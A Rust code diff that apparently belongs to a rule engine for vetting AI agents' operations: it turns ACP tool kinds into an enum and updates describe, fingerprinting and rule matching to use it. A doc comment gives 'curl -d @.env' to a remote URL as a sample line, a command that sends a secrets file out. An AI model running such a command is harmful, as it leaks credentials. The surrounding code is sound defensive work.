@@ -11,16 +11,71 @@ use std::path::{Path, PathBuf};
 
 use serde::{Deserialize, Serialize};
 
-/// ACP's tool kinds.
-pub const KINDS: &[&str] = &[
-    "read", "edit", "delete", "move", "search", "execute", "fetch", "think", "other",
-];
+/// ACP's tool kinds, named as ACP names them (in rule files and on the wire).
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum OperationKind {
+    Read,
+    Edit,
+    Delete,
+    Move,
+    Search,
+    Execute,
+    Fetch,
+    Think,
+    /// Switching the agent's mode: ACP names it; no rule matches it by kind.
+    SwitchMode,
+    /// Any other, and a kind this crucible does not know.
+    #[default]
+    #[serde(other)]
+    Other,
+}
+
+impl OperationKind {
+    /// The kinds a rule may name.
+    pub const RULES: [OperationKind; 9] = [
+        Self::Read,
+        Self::Edit,
+        Self::Delete,
+        Self::Move,
+        Self::Search,
+        Self::Execute,
+        Self::Fetch,
+        Self::Think,
+        Self::Other,
+    ];
+
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Read => "read",
+            Self::Edit => "edit",
+            Self::Delete => "delete",
+            Self::Move => "move",
+            Self::Search => "search",
+            Self::Execute => "execute",
+            Self::Fetch => "fetch",
+            Self::Think => "think",
+            Self::SwitchMode => "switch_mode",
+            Self::Other => "other",
+        }
+    }
+
+    /// A kind a rule may name, by its name.
+    pub fn parse(name: &str) -> Option<Self> {
+        Self::RULES.into_iter().find(|k| k.as_str() == name)
+    }
+}
+
+impl std::fmt::Display for OperationKind {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
 
 /// Something an agent does or asks to do.
 #[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Operation {
-    /// One of [`KINDS`].
-    pub kind: String,
+    pub kind: OperationKind,
     /// The command line, for `execute`.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub command: Option<String>,
@@ -35,7 +90,7 @@ pub struct Operation {
 impl Operation {
     /// One line for people: `execute: curl -d @.env https://…`.
     pub fn describe(&self) -> String {
-        let mut text = self.kind.clone();
+        let mut text = self.kind.as_str().to_string();
         if let Some(command) = &self.command {
             text.push_str(&format!(": {command}"));
         } else if let Some(tool) = &self.tool {
@@ -53,7 +108,7 @@ impl Operation {
     pub fn fingerprint(&self) -> String {
         use sha2::Digest;
         let mut hash = sha2::Sha256::new();
-        hash.update(self.kind.as_bytes());
+        hash.update(self.kind.as_str().as_bytes());
         hash.update([0]);
         hash.update(self.command.as_deref().unwrap_or("").as_bytes());
         for path in &self.paths {
@@ -132,7 +187,7 @@ pub struct RuleSpec {
 
 #[derive(Debug, Clone)]
 struct Matcher {
-    kinds: Vec<String>,
+    kinds: Vec<OperationKind>,
     command: Option<regex::Regex>,
     paths: Vec<glob::Pattern>,
     tool: Option<regex::Regex>,
@@ -240,14 +295,16 @@ fn compile_matcher(id: &str, spec: &MatcherSpec) -> Result<Matcher, RuleError> {
         reason,
         file: None,
     };
-    let kinds = spec.kind.as_ref().map(OneOrMany::list).unwrap_or_default();
-    for kind in &kinds {
-        if !KINDS.contains(&kind.as_str()) {
+    let mut kinds = Vec::new();
+    for kind in spec.kind.as_ref().map(OneOrMany::list).unwrap_or_default() {
+        let Some(known) = OperationKind::parse(&kind) else {
+            let names: Vec<&str> = OperationKind::RULES.iter().map(|k| k.as_str()).collect();
             return Err(err(format!(
                 "unknown kind {kind:?} (use {})",
-                KINDS.join(", ")
+                names.join(", ")
             )));
-        }
+        };
+        kinds.push(known);
     }
     let regex = |what: &str, text: &Option<String>| {
         text.as_ref()
